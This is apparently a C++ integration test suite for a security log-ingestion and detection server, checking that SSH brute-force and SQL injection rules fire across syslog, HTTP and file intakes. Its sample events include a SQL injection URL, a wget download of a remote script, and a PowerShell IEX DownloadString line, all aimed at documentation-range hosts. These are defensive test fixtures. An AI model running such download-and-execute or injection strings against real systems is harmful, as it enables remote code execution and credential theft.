// Issue 4, must-show 1: SSH brute force, web SQL injection and auditd records sent to a real
// `vigil serve` by syslog over TCP, TLS and UDP, by the HTTP intake and by a tailed file; the
// rules fire, detections are stored with their events, and the events are searchable over the
// API. Uses the project's own rules (rules/) so it needs no shared data.
#include <chrono>
#include <cstring>
#include <ctime>
#include <fstream>
#include <functional>
#include <set>
#include <thread>

#include <sys/socket.h>

#include "app/tests/serve_fixture.h"
#include "auth/permissions.h"
#include "base/strings.h"
#include "store/sqlite_event_store.h"

namespace vigil::app {
namespace {

using namespace vigil::app::serve_testing;  // NOLINT(google-build-using-namespace): the fixture
using namespace std::chrono_literals;

std::string SshFailures(const std::string& host, int n) {
    std::string out;
    for (int i = 0; i < n; ++i) {
        out += "<38>Nov 21 08:15:" + std::to_string(10 + i) + " " + host + " sshd[" +
               std::to_string(4000 + i) +
               "]: Failed password for invalid user oracle from 203.0.113.7 port " +
               std::to_string(50000 + i) + " ssh2\n";
    }
    return out;
}

// The HTTP intake as a log shipper uses it: a token with the events.ingest scope, raw POSTs.
class IntakeTest : public ServeTest {
protected:
    std::string IngestToken(Browser& manager) {
        HttpReply r = Send(
            "POST", "/api/v1/tokens",
            json{{"name", "shipper"}, {"scopes", {"events.ingest"}}, {"expires_days", 1}}.dump(),
            &manager);
        EXPECT_EQ(r.status, 201) << r.body;
        return r.status == 201 ? Json(r)["token"].get<std::string>() : "";
    }
    HttpReply PostEvents(const std::string& token, const std::string& body,
                         const std::string& type = "application/x-ndjson") {
        const std::string raw =
            "POST /api/v1/events HTTP/1.1\r\nHost: localhost\r\n"
            "Authorization: Bearer " +
            token + "\r\nContent-Type: " + type +
            "\r\nContent-Length: " + std::to_string(body.size()) + "\r\nConnection: close\r\n\r\n" +
            body;
        return ParseReply(TlsExchange(app_->port(), Cert(), raw).value_or(""));
    }
};

class IngestTest : public IntakeTest {
protected:
    void SetUp() override {
        ServeTest::SetUp();
        {
            std::ofstream cfg(dir_ / "vigil.yml", std::ios::app);
            cfg << "\ningest:\n"
                << "  rules: [" << VIGIL_SOURCE_DIR << "/rules]\n"
                << "  sources:\n"
                << "    - {name: syslog-tcp, type: syslog-tcp, port: 0}\n"
                << "    - {name: syslog-udp, type: syslog-udp, port: 0}\n"
                << "    - {name: syslog-tls, type: syslog-tls, port: 0}\n"
                << "    - name: web-files\n"
                << "      type: file\n"
                << "      paths: [" << (dir_ / "tailed" / "*.log").string() << "]\n"
                << "      decoder: access\n"
                << "      host: web01\n";
        }
        std::filesystem::create_directories(dir_ / "tailed");
        Restart();
    }
};

TEST_F(IngestTest, EveryIntakeStoresSearchableEventsAndRulesFire) {
    // syslog over TCP (octet counting and newline framing mixed).
    int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
    ASSERT_GE(fd, 0);
    const std::string first =
        "<38>Nov 21 08:15:01 bastion-tcp sshd[1]: Failed password for "
        "invalid user oracle from 203.0.113.7 port 40000 ssh2";
    const std::string tcp =
        std::to_string(first.size()) + " " + first + SshFailures("bastion-tcp", 5);
    ASSERT_EQ(::send(fd, tcp.data(), tcp.size(), MSG_NOSIGNAL), static_cast<ssize_t>(tcp.size()));
    ::close(fd);

    // syslog over UDP: one datagram per message.
    fd = ConnectLoopback(app_->ingest_port("syslog-udp"), SOCK_DGRAM);
    std::string udp = SshFailures("bastion-udp", 3);
    for (size_t pos = 0; pos < udp.size();) {
        const size_t nl = udp.find('\n', pos);
        ::send(fd, udp.data() + pos, nl - pos, 0);
        pos = nl + 1;
    }
    ::close(fd);

    // syslog over TLS 1.3, verified against the server's certificate.
    ASSERT_TRUE(
        TlsSend(app_->ingest_port("syslog-tls"), Cert(), SshFailures("bastion-tls", 2), kTls13));

    // A tailed web access log with a SQL injection.
    {
        std::ofstream log(dir_ / "tailed" / "access.log");
        log << "198.51.100.9 - - [21/Nov/2026:08:16:00 +0000] \"GET "
               "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- "
               "HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n";
    }

    // The HTTP intake with an ingest token (NDJSON: an auditd record and a JSON event).
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    const std::string token = IngestToken(manager);
    const std::string ndjson =
        "type=EXECVE msg=audit(1763712915.123:77): argc=3 a0=\"wget\" a1=\"-q\" "
        "a2=\"http://203.0.113.9/x.sh\"\n"
        "{\"message\":\"hello from the intake\",\"app\":\"payments\"}\n"
        // NXLog's shape: the machine is its Hostname, not the collector that posted it.
        "{\"Hostname\":\"WS-07\",\"EventID\":4624,\"Channel\":\"Security\"}\n"
        // Dated two hours after it arrives: counted in dated_ahead (a wrong timezone's sign).
        "{\"message\":\"from the future\",\"@timestamp\":\"" +
        FormatTimestamp(now_.load() + 2 * 3600 * kSecond) + "\"}\n";  // the intake's clock
    HttpReply intake = PostEvents(token, ndjson);
    ASSERT_EQ(intake.status, 202) << intake.body;
    EXPECT_EQ(Json(intake)["accepted"], 4);
    // A token without the scope is refused.
    HttpReply r =
        Send("POST", "/api/v1/tokens",
             json{{"name", "reader"}, {"scopes", {"system.status"}}, {"expires_days", 1}}.dump(),
             &manager);
    EXPECT_EQ(Send("POST", "/api/v1/events", "{}", nullptr, true,
                   "Authorization: Bearer " + Json(r)["token"].get<std::string>() + "\r\n")
                  .status,
              403);

    // Wait until the tailer has polled and everything is stored (16 messages in all; the one
    // dated two hours ahead is not in a search up to now).
    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    for (int i = 0; i < 200; ++i) {
        if (app_->WaitIngestIdle(100ms)) {
            HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
            if (s.status == 200 && Json(s)["items"].size() >= 15) break;
        }
        std::this_thread::sleep_for(50ms);
    }
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    const json events = Json(r);
    std::map<std::string, int> by_source;
    for (const auto& e : events["items"]) by_source[e["source"].get<std::string>()]++;
    EXPECT_EQ(by_source["syslog-tcp"], 6);
    EXPECT_EQ(by_source["syslog-udp"], 3);
    EXPECT_EQ(by_source["syslog-tls"], 2);
    EXPECT_EQ(by_source["web-files"], 1);
    EXPECT_EQ(by_source["http"], 3);

    // Field filters and full text over the API.
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=bastion-udp", &analyst);
    EXPECT_EQ(Json(r)["items"].size(), 3u) << r.body;
    // Two filters on one field must both hold (the second was dropped: 3 events).
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=bastion-udp&f.host=bastion-tls",
            &analyst);
    EXPECT_EQ(Json(r)["items"].size(), 0u) << r.body;
    r = Get("/api/v1/events/histogram?since=2000-01-01T00:00:00Z&f.host=bastion-udp&f.host=x",
            &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    EXPECT_EQ(Json(r)["total"], 0) << r.body;
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=Failed%20password&limit=500", &analyst);
    EXPECT_EQ(Json(r)["items"].size(), 11u) << r.body;
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=UNION", &analyst);
    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
    EXPECT_EQ(Json(r)["items"][0]["host"], "web01");
    EXPECT_EQ(Json(r)["items"][0]["logsource"]["categories"][0], "webserver");
    // A tailed line keeps the file it came from.
    EXPECT_EQ(Json(r)["items"][0]["fields"]["log"]["file"]["path"],
              (dir_ / "tailed" / "access.log").string())
        << r.body;
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&f.host=WS-07", &analyst);
    EXPECT_EQ(Json(r)["items"].size(), 1u) << r.body;

    // Detections: the SSH failures from every syslog transport (11 from 203.0.113.7) are
    // counted by the brute-force correlation (5 in 5 minutes per source_ip), which fires with
    // the contributing events; the single failures raise no detection of their own (the
    // correlation has generate: false). And the SQL injection.
    r = Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=500", &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    const json detections = Json(r);
    int brute = 0, single = 0, web = 0;
    for (const auto& d : detections["items"]) {
        const std::string title = d["rule_title"].get<std::string>();
        EXPECT_FALSE(d["event_ids"].empty());
        if (title.find("SSH brute force") != std::string::npos) {
            ++brute;
            EXPECT_NE(title.find("source_ip=203.0.113.7"), std::string::npos) << title;
            EXPECT_EQ(d["level"], "high");
            EXPECT_EQ(d["event_ids"].size(), 5u) << d.dump();
            // Every contributing event is stored and is an SSH failure, and can be read by id.
            for (const auto& id : d["event_ids"]) {
                bool found = false;
                for (const auto& e : events["items"]) {
                    if (e["id"] != id) continue;
                    found = true;
                    EXPECT_NE(e["message"].get<std::string>().find("Failed password"),
                              std::string::npos);
                }
                EXPECT_TRUE(found) << id;
                HttpReply one = Get("/api/v1/events/" + id.get<std::string>() +
                                        "?time=" + d["time"].get<std::string>(),
                                    &analyst);
                ASSERT_EQ(one.status, 200) << one.body;
                EXPECT_EQ(Json(one)["id"], id);
                EXPECT_NE(Json(one)["message"].get<std::string>().find("Failed password"),
                          std::string::npos);
            }
        }
        if (title.find("SSH authentication failure") != std::string::npos) ++single;
        if (title.find("SQL") != std::string::npos) ++web;
    }
    EXPECT_EQ(brute, 2) << detections.dump();  // at the 5th and the 10th failure
    EXPECT_EQ(single, 0) << detections.dump();
    EXPECT_GE(web, 1) << detections.dump();

    // Counters per source, as JSON and for Prometheus.
    r = Get("/api/v1/ingest/status", &analyst);
    ASSERT_EQ(r.status, 200);
    const json status = Json(r);
    for (const auto& s : status["sources"]) {
        if (s["name"] == "syslog-tcp") {
            EXPECT_EQ(s["received"], 6);
            EXPECT_EQ(s["stored"], 6);
            EXPECT_EQ(s["dated_ahead"], 0);
        }
        if (s["name"] == "http") EXPECT_EQ(s["dated_ahead"], 1) << s;
    }
    // ... with where the memory goes: the process's, and SQLite's part of it.
    const json& process = status["process"];
    EXPECT_GT(process["resident_bytes"].get<uint64_t>(), 0u) << process;
    EXPECT_GE(process["peak_resident_bytes"].get<uint64_t>(),
              process["resident_bytes"].get<uint64_t>());
    EXPECT_GT(process["sqlite_heap_bytes"].get<int64_t>(), 0) << process;
    EXPECT_LT(process["sqlite_heap_bytes"].get<uint64_t>(),
              process["resident_bytes"].get<uint64_t>());
    EXPECT_GE(process["sqlite_heap_peak_bytes"].get<int64_t>(),
              process["sqlite_heap_bytes"].get<int64_t>());
    r = Get("/metrics", &analyst);
    ASSERT_EQ(r.status, 200);
    EXPECT_NE(r.body.find("vigil_ingest_stored_total{source=\"syslog-udp\"} 3"), std::string::npos)
        << r.body;
    // The process collector's names, each with its type, and SQLite's heap.
    for (const char* name :
         {"process_resident_memory_bytes", "process_virtual_memory_bytes",
          "process_cpu_seconds_total", "process_open_fds", "process_start_time_seconds",
          "vigil_process_peak_resident_memory_bytes", "vigil_sqlite_heap_bytes"}) {
        EXPECT_NE(r.body.find(std::string("# TYPE ") + name + " "), std::string::npos) << name;
        const size_t at = r.body.find(std::string("\n") + name + " ");
        ASSERT_NE(at, std::string::npos) << name << "\n" << r.body;
        const std::string value = r.body.substr(
            at + 2 + std::strlen(name), r.body.find('\n', at + 1) - at - 2 - std::strlen(name));
        EXPECT_GT(std::stod(value), 0) << name << " = " << value;
    }
    // An id nothing is stored under, and one that is not an id.
    r = Get("/api/v1/events/00000000-0000-7000-8000-000000000000", &analyst);
    EXPECT_EQ(r.status, 404) << r.body;
    r = Get("/api/v1/events/not-an-id", &analyst);
    EXPECT_EQ(r.status, 400) << r.body;
    // The viewer may not search events, nor read one.
    Browser viewer = FullSession("vic", auth::Role::kViewer);
    EXPECT_EQ(Get("/api/v1/events", &viewer).status, 403);
    const std::string some_id = events["items"][0]["id"].get<std::string>();
    EXPECT_EQ(Get("/api/v1/events/" + some_id, &viewer).status, 403);
}

// The correlation windows survive a restart: three SSH failures before it and two after are
// the five the brute-force correlation needs, and its detection names all five events.
TEST_F(IngestTest, CorrelationWindowsSurviveARestart) {
    auto send = [&](const std::string& host, int n) {
        const int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
        ASSERT_GE(fd, 0);
        const std::string lines = SshFailures(host, n);
        ASSERT_EQ(::send(fd, lines.data(), lines.size(), MSG_NOSIGNAL),
                  static_cast<ssize_t>(lines.size()));
        ::close(fd);
    };
    auto events = [&](size_t want) {
        Browser analyst = FullSession("analyst" + std::to_string(want), auth::Role::kAnalyst);
        json items;
        for (int i = 0; i < 200; ++i) {
            if (app_->WaitIngestIdle(100ms)) {
                items = Json(
                    Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=100", &analyst))["items"];
                if (items.size() >= want) break;
            }
            std::this_thread::sleep_for(50ms);
        }
        return items;
    };
    send("before-restart", 3);
    ASSERT_EQ(events(3).size(), 3u);
    Restart();
    {
        Browser analyst = FullSession("watcher", auth::Role::kAnalyst);
        const json status = Json(Get("/api/v1/ingest/status", &analyst));
        EXPECT_EQ(status["correlation_matches_restored"], 3) << status.dump();
    }
    send("after-restart", 2);
    const json stored = events(5);
    ASSERT_EQ(stored.size(), 5u);

    Browser analyst = FullSession("reader", auth::Role::kAnalyst);
    const json detections =
        Json(Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst));
    int brute = 0;
    for (const auto& d : detections["items"]) {
        if (d["rule_title"].get<std::string>().find("SSH brute force") == std::string::npos)
            continue;
        ++brute;
        std::set<std::string> ids, all;
        for (const auto& id : d["event_ids"]) ids.insert(id.get<std::string>());
        for (const auto& e : stored) all.insert(e["id"].get<std::string>());
        EXPECT_EQ(ids, all) << "the detection names the events from before the restart too";
    }
    EXPECT_EQ(brute, 1) << detections.dump();
}

// One host whose clock runs fast (here 20 hours) must not hide another's brute force: its
// event used to move every correlation group's window, so the attacker's count started over.
TEST_F(IngestTest, AFastClockOnOneHostDoesNotHideAnotherHostsBruteForce) {
    auto send = [&](const std::string& lines, size_t stored_after) {
        const int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
        ASSERT_GE(fd, 0);
        ASSERT_EQ(::send(fd, lines.data(), lines.size(), MSG_NOSIGNAL),
                  static_cast<ssize_t>(lines.size()));
        ::close(fd);
        Browser analyst = FullSession("a" + std::to_string(stored_after), auth::Role::kAnalyst);
        for (int i = 0; i < 200; ++i) {  // each send its own batch
            if (app_->WaitIngestIdle(100ms) &&
                Json(Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=100", &analyst))["items"]
                        .size() >= stored_after) {
                return;
            }
            std::this_thread::sleep_for(50ms);
        }
        FAIL() << "events not stored";
    };
    const std::string attacker = SshFailures("web-01", 5);  // 203.0.113.7, five failures
    const size_t fifth = attacker.rfind("<38>");
    send(attacker.substr(0, fifth), 4);
    const int64_t now = std::chrono::duration_cast<std::chrono::nanoseconds>(
                            std::chrono::system_clock::now().time_since_epoch())
                            .count();
    const std::string ahead = FormatTimestamp(now + 20LL * 3600 * 1'000'000'000);
    send("<38>1 " + ahead + " db-02 sshd 77 - - Failed password for root from 198.51.100.9 " +
             "port 4000 ssh2\n",
         5);
    send(attacker.substr(fifth), 6);

    Browser analyst = FullSession("reader", auth::Role::kAnalyst);
    const json detections =
        Json(Get("/api/v1/detections?since=2000-01-01T00:00:00Z&limit=100", &analyst));
    int brute = 0;
    for (const auto& d : detections["items"]) {
        const std::string title = d["rule_title"].get<std::string>();
        if (title.find("SSH brute force") != std::string::npos) {
            ++brute;
            EXPECT_NE(title.find("203.0.113.7"), std::string::npos) << title;
        }
    }
    EXPECT_EQ(brute, 1) << detections.dump();
}

TEST_F(IngestTest, BadIntakeBodiesAreClearErrors) {
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    const std::string token = IngestToken(manager);
    auto post = [&](const std::string& body, const std::string& type) {
        return PostEvents(token, body, type);
    };
    EXPECT_EQ(post("", "application/json").status, 400);
    EXPECT_EQ(post("\n\n", "text/plain").status, 400);
    EXPECT_EQ(post("[1, 2", "application/json").status, 400);
    EXPECT_EQ(post("a=b", "application/x-www-form-urlencoded").status, 415);
    EXPECT_EQ(post(std::string(100, '{') + "\n", "application/x-ndjson").status, 202)
        << "a malformed line is kept and stored as text";
    HttpReply r = Get("/api/v1/events?since=yesterday", &manager);
    EXPECT_EQ(r.status, 400);
    EXPECT_NE(r.body.find("RFC 3339"), std::string::npos);
    // Blank lines are not events: a body of only blanks has none.
    EXPECT_EQ(post(" \n\t \r\n", "text/plain").status, 400);
    HttpReply bad = post("[{\"a\":1}, {\"b\":2]", "application/json");
    EXPECT_EQ(bad.status, 400);
    EXPECT_NE(bad.body.find("unexpected ']' at byte 16"), std::string::npos) << bad.body;
}

// Lines read again (here: the tail offsets lost) carry the ids they had, so the store keeps
// one copy; the status counts them as duplicates, not as stored.
TEST_F(IngestTest, EventsReadAgainAreCountedAsDuplicatesAndStoredOnce) {
    {
        std::ofstream log(dir_ / "tailed" / "again.log");
        for (int i = 0; i < 3; ++i) {
            log << "198.51.100." << i << " - - [21/Nov/2026:08:16:0" << i
                << " +0000] \"GET /again HTTP/1.1\" 200 5 \"-\" \"curl\"\n";
        }
    }
    int sessions = 0;
    auto source = [&](const char* name) {
        Browser analyst = FullSession("watcher" + std::to_string(++sessions), auth::Role::kAnalyst);
        for (int i = 0; i < 200; ++i) {
            if (app_->WaitIngestIdle(100ms)) {
                const json status = Json(Get("/api/v1/ingest/status", &analyst));
                for (const auto& s : status["sources"]) {
                    if (s["name"] == "web-files" && s[name] == 3) return s;
                }
            }
        }
        return json();
    };
    const json first = source("stored");
    ASSERT_FALSE(first.is_null()) << "the three lines were not stored";
    EXPECT_EQ(first["duplicates"], 0);
    app_.reset();
    std::filesystem::remove(dir_ / "tail-web-files.offsets");
    Restart();
    const json again = source("duplicates");
    ASSERT_FALSE(again.is_null()) << "the lines read again were not counted as duplicates";
    EXPECT_EQ(again["stored"], 0) << again.dump();
    Browser analyst = FullSession("reader", auth::Role::kAnalyst);
    HttpReply r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500&text=again", &analyst);
    ASSERT_EQ(r.status, 200);
    EXPECT_EQ(Json(r)["items"].size(), 3u);
}

// A message padded past the 64 KiB frame limit (a PowerShell script block, a long command line)
// is stored as its head with vigil.truncated, which rules and searches see, and the message
// after it on the connection is intact. A compressed file beside the tailed logs (logrotate's
// compress) is skipped, not stored as garbage, and the source's status counts it.
TEST_F(IngestTest, AnOversizedFrameIsStoredCutAndACompressedFileIsSkipped) {
    const std::string big =
        "<13>1 - ws01 powershell 4104 - - ScriptBlock MARKER_BIG IEX (New-Object "
        "Net.WebClient).DownloadString('http://203.0.113.9/a') " +
        std::string(70000, '#') + "\n<13>1 - ws01 app - - - MARKER_SMALL next message\n";
    const int fd = ConnectLoopback(app_->ingest_port("syslog-tcp"), SOCK_STREAM);
    ASSERT_GE(fd, 0);
    for (size_t off = 0; off < big.size();) {
        const ssize_t n = ::send(fd, big.data() + off, big.size() - off, MSG_NOSIGNAL);
        ASSERT_GT(n, 0);
        off += static_cast<size_t>(n);
    }
    ::close(fd);
    // Over HTTP: an event over the store's 64 KiB is stored cut, marked and counted; a body that
    // is not JSON is refused and counted with its reason.
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    const std::string token = IngestToken(manager);
    HttpReply posted =
        PostEvents(token, "{\"message\":\"MARKER_HTTP " + std::string(70000, 'h') + "\"}\n");
    ASSERT_EQ(posted.status, 202) << posted.body;
    posted = PostEvents(token, R"([{"msg":"a"},{"msg":"b"])", "application/json");
    ASSERT_EQ(posted.status, 400) << posted.body;
    {
        std::ofstream gz(dir_ / "tailed" / "access.log.2.log", std::ios::binary);
        gz << std::string("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10)
           << "\n\x8e\x01 compressed bytes\n\xff\n";
    }
    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    json tcp, files, http;
    for (int i = 0; i < 200 && (tcp.is_null() || files.is_null() || http.is_null()); ++i) {
        if (app_->WaitIngestIdle(100ms)) {
            const json status = Json(Get("/api/v1/ingest/status", &analyst));
            for (const auto& s : status["sources"]) {
                if (s["name"] == "syslog-tcp" && s["stored"] == 2) tcp = s;
                if (s["name"] == "web-files" && s["compressed_skipped"] == 1) files = s;
                if (s["name"] == "http" && s["stored"] == 1) http = s;
            }
        }
        std::this_thread::sleep_for(50ms);
    }
    ASSERT_FALSE(tcp.is_null()) << "the two messages were not stored";
    ASSERT_FALSE(files.is_null()) << "the compressed file was not counted";
    ASSERT_FALSE(http.is_null()) << "the HTTP event was not stored";
    EXPECT_EQ(tcp["oversized"], 1);
    // The reason and position of the transport's latest trouble.
    EXPECT_NE(
        tcp["last_transport_error"].dump().find("over the limit of 65536 bytes at stream byte"),
        std::string::npos)
        << tcp.dump().substr(0, 600);
    EXPECT_EQ(http["raw_cut"], 1) << http.dump();
    EXPECT_EQ(http["framing_errors"], 1) << http.dump();
    EXPECT_NE(http["last_transport_error"].dump().find("not JSON"), std::string::npos)
        << http.dump();
    HttpReply hr = Get(
        "/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_HTTP&f.vigil.truncated=true", &analyst);
    ASSERT_EQ(Json(hr)["items"].size(), 1u) << hr.body.substr(0, 300);
    EXPECT_EQ(files["received"], 0) << files.dump();
    HttpReply r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_BIG", &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
    const json cut = Json(r)["items"][0];
    EXPECT_LE(cut["message"].get<std::string>().size(), 64u * 1024) << "the frame limit's head";
    EXPECT_NE(cut["fields"].dump().find("truncated"), std::string::npos) << cut.dump();
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_BIG&f.vigil.truncated=true",
            &analyst);
    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body.substr(0, 300);
    EXPECT_EQ(Json(r)["items"][0]["id"], cut["id"]);
    r = Get("/api/v1/events?since=2000-01-01T00:00:00Z&q=MARKER_SMALL", &analyst);
    ASSERT_EQ(Json(r)["items"].size(), 1u) << r.body;
    EXPECT_EQ(Json(r)["items"][0]["fields"].dump().find("truncated"), std::string::npos);
    r = Get("/metrics", &analyst);
    EXPECT_NE(r.body.find("vigil_ingest_compressed_skipped_total{source=\"web-files\"} 1"),
              std::string::npos)
        << r.body;
    EXPECT_NE(r.body.find("vigil_ingest_raw_cut_total{source=\"http\"} 1"), std::string::npos);
}

// A line dated 60 days back or 5 days ahead is filed under its receipt (the store does not
// trust the claim). Its detection is dated so too, or a sender could hide it from the default
// detections list (the last 24 hours) by backdating the line; the API's `time` is what the
// search went by, the claim is `event_time`. Bytes that are no UTF-8 character (a surrogate)
// still give JSON.
TEST_F(IngestTest, ASendersClaimedTimeHidesNoDetectionAndReordersNoSearch) {
    const auto now = std::chrono::system_clock::now();
    auto clf = [](std::chrono::system_clock::time_point t) {  // [21/Nov/2026:08:16:00 +0000]
        const std::time_t tt = std::chrono::system_clock::to_time_t(t);
        std::tm tm{};
        gmtime_r(&tt, &tm);
        char buf[64];
        std::strftime(buf, sizeof buf, "[%d/%b/%Y:%H:%M:%S +0000]", &tm);
        return std::string(buf);
    };
    {
        std::ofstream log(dir_ / "tailed" / "claims.log");
        for (auto t : {now - std::chrono::hours(24 * 60), now + std::chrono::hours(24 * 5)}) {
            log << "198.51.100.7 - - " << clf(t)
                << " \"GET /item.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- "
                   "HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n";
        }
        log << "198.51.100.8 - - " << clf(now) << " \"GET /x\xED\xA0\x80y HTTP/1.1\" 404 1 \"-\" "
            << "\"curl\"\n";
    }
    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    // The last 24 hours by the real clock (the server's own clock is the fixture's).
    auto now_ns = [] {
        return std::chrono::duration_cast<std::chrono::nanoseconds>(
                   std::chrono::system_clock::now().time_since_epoch())
            .count();
    };
    const int64_t day_ago = now_ns() - int64_t{24} * 3600 * 1000000000;
    const std::string range = "since=" + FormatTimestamp(day_ago) +
                              "&until=" + FormatTimestamp(now_ns() + int64_t{3600} * 1000000000);
    json items;
    for (int i = 0; i < 200 && items.size() < 3; ++i) {
        if (app_->WaitIngestIdle(100ms)) {
            HttpReply r = Get("/api/v1/events?f.host=web01&" + range, &analyst);
            ASSERT_EQ(r.status, 200) << r.body;
            items = Json(r)["items"];
        }
    }
    ASSERT_EQ(items.size(), 3u) << items.dump();
    int claimed = 0;
    for (const auto& e : items) {
        const auto time = ParseTimestamp(e["time"].get<std::string>());
        ASSERT_TRUE(time);
        EXPECT_GT(*time, day_ago) << e.dump();  // within the range searched
        EXPECT_LE(*time, now_ns()) << e.dump();
        const auto own = ParseTimestamp(e["event_time"].get<std::string>());
        ASSERT_TRUE(own) << e.dump();
        if (*own != *time) ++claimed;
    }
    EXPECT_EQ(claimed, 2);
    HttpReply r = Get("/api/v1/detections?since=" + FormatTimestamp(day_ago), &analyst);
    ASSERT_EQ(r.status, 200) << r.body;
    int sql = 0;
    const json detections = Json(r);
    for (const auto& d : detections["items"]) {
        if (d["rule_title"].get<std::string>().find("SQL") != std::string::npos) ++sql;
    }
    EXPECT_GE(sql, 2) << r.body;
    // A range longer than an int64 of nanoseconds is refused, not a 500.
    r = Get("/api/v1/events/histogram?since=1700-01-01T00:00:00Z&until=2200-01-01T00:00:00Z",
            &analyst);
    EXPECT_EQ(r.status, 400) << r.body;
    r = Get("/api/v1/events?since=1700-01-01T00:00:00Z&until=2200-01-01T00:00:00Z", &analyst);
    EXPECT_EQ(r.status, 400) << r.body;
}

// A malformed line's sample is raw log text (a password typed as a user name, a card number):
// the status shows it only to a caller who may read events. Every role may read the status.
TEST_F(IngestTest, MalformedSamplesAreOnlyForThoseWhoMayReadEvents) {
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    HttpReply intake = PostEvents(IngestToken(manager), "{\"user\":\"Hunter2-secret\"\n");
    ASSERT_EQ(intake.status, 202) << intake.body;
    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    json status;
    for (int i = 0; i < 200; ++i) {
        status = Json(Get("/api/v1/ingest/status", &analyst));
        if (status.dump().find("Hunter2-secret") != std::string::npos) break;
        std::this_thread::sleep_for(50ms);
    }
    EXPECT_NE(status.dump().find("Hunter2-secret"), std::string::npos) << status.dump();
    EXPECT_FALSE(status.contains("samples_withheld"));
    for (auth::Role role :
         {auth::Role::kViewer, auth::Role::kAuditor, auth::Role::kAdministrator}) {
        Browser b = FullSession("r" + std::to_string(static_cast<int>(role)), role);
        HttpReply r = Get("/api/v1/ingest/status", &b);
        ASSERT_EQ(r.status, 200) << r.body;
        EXPECT_EQ(r.body.find("Hunter2-secret"), std::string::npos) << r.body;
        EXPECT_EQ(Json(r)["samples_withheld"], true) << r.body;
        r = Get("/api/v1/system/status", &b);  // the platform's status carries the ingestion's
        ASSERT_EQ(r.status, 200) << r.body;
        EXPECT_NE(r.body.find("samples_withheld"), std::string::npos) << r.body;
        EXPECT_EQ(r.body.find("Hunter2-secret"), std::string::npos) << r.body;
    }
}

// What a body holds follows its Content-Type, and each event is stored as it was sent. A JSON
// bomb of any depth is one malformed event, not a crash.
TEST_F(IngestTest, IntakeBodiesFollowTheirContentTypeAndKeepEachEventAsSent) {
    Browser manager = FullSession("secmgr", auth::Role::kSecurityManager);
    const std::string token = IngestToken(manager);
    auto accepted = [&](const std::string& body, const std::string& type) -> int {
        HttpReply r = PostEvents(token, body, type);
        EXPECT_EQ(r.status, 202) << type << ": " << r.body;
        return r.status == 202 ? Json(r)["accepted"].get<int>() : -1;
    };
    std::string bomb;
    for (int i = 0; i < 100000; ++i) bomb += "{\"a\":";
    bomb += "1" + std::string(100000, '}');
    EXPECT_EQ(accepted("[" + bomb + "]", "application/json"), 1);
    // Text lines that start with '[' (an Apache error log) are lines, not JSON.
    EXPECT_EQ(accepted("[Sun Nov 22 10:00:00 2026] [core:error] [pid 7] marker-apache\n"
                       "[Sun Nov 22 10:00:01 2026] [core:error] [pid 7] marker-apache\n",
                       "text/plain"),
              2);
    // A pretty-printed object is one event; so is each element of an array, with its text as
    // sent (number text, key order and repeated keys kept).
    EXPECT_EQ(
        accepted("{\n  \"marker\": \"pretty\",\n  \"user\": \"alice\"\n}\n", "application/json"),
        1);
    const std::string element = R"({"marker":"asis","z":1,"a":"\u00e9","f":1.10,"dup":1,"dup":2})";
    EXPECT_EQ(accepted("[" + element + ",\n {\"marker\":\"second\"}]", "application/json"), 2);

    Browser analyst = FullSession("analyst", auth::Role::kAnalyst);
    json items;
    for (int i = 0; i < 200; ++i) {
        if (app_->WaitIngestIdle(100ms)) {
            HttpReply s = Get("/api/v1/events?since=2000-01-01T00:00:00Z&limit=500", &analyst);
            if (s.status == 200) items = Json(s)["items"];
            if (items.size() >= 6) break;
        }
    }
    ASSERT_EQ(items.size(), 6u) << items.dump();
    std::multiset<std::string> messages;
    for (const auto& e : items) messages.insert(e["message"].get<std::string>());
    EXPECT_EQ(messages.count(element), 1u) << items.dump();
    EXPECT_EQ(messages.count("{\n  \"marker\": \"pretty\",\n  \"user\": \"alice\"\n}"), 1u);
    size_t apache = 0, deep = 0;
    for (const auto& e : items) {
        const std::string m = e["message"].get<std::string>();
        apache += m.find("marker-apache") != std::string::npos;
        if (m.starts_with("{\"a\":{\"a\":")) {
            ++deep;
            EXPECT_NE(e["fields"].dump().find("decode_error"), std::string::npos)
                << "kept as text with the decoder's reason";
        }
    }
    EXPECT_EQ(apache, 2u);
    EXPECT_EQ(deep, 1u);
}

